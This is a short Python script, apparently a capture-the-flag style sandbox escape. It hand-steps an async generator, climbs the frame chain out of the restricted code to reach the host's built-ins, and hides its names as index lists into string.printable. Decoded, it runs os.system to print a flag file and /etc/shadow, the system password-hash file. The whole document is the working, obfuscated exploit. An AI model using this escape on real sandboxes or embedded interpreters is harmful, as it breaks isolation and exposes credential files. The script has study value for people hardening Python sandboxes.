# technique: an async generator is stepped by hand (asend(None).send(None)) with no event loop; while running it reads its own ag_frame and follows f_back out of the untrusted code into the embedding program's frames, using the top-level frame's built-in table; names are index lists into string.printable
import string

ALPHABET = string.printable


def spell(indexes):
    return "".join(ALPHABET[i] for i in indexes)


holder = []


async def climber():
    frame = holder[0].ag_frame
    while frame.f_back is not None:
        frame = frame.f_back
    table = frame.f_builtins
    loader = table[spell([88, 88, 18, 22, 25, 24, 27, 29, 88, 88])]
    proc = loader(spell([24, 28]))
    yield getattr(proc, spell([28, 34, 28, 29, 14, 22]))(
        spell([12, 10, 29, 94, 76, 15, 21, 10, 16, 94, 76, 14, 29, 12, 76, 28, 17, 10, 13, 24, 32, 94, 81, 67, 2])
    )


holder.append(climber())
step = holder[0].asend(None)
try:
    step.send(None)
except StopIteration as finished:
    print("exit status", finished.value)
